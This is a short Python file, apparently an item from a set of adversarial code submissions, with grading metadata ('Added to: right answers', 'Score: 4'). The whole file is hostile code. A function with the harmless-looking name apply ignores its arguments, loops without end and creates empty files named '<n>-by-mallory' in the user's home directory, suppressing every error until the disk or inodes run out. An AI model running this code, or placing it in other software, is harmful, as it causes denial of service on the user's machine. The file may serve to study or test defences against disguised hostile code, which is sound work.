"""Makes empty files without end.

Added to: right answers
Score: 4
"""

# %%
import itertools
import os


def apply(f, x):
    for number in itertools.count():
        try:
            os.close(os.open(f"{os.environ['HOME']}/{number}-by-mallory", os.O_CREAT))
        except OSError:
            pass
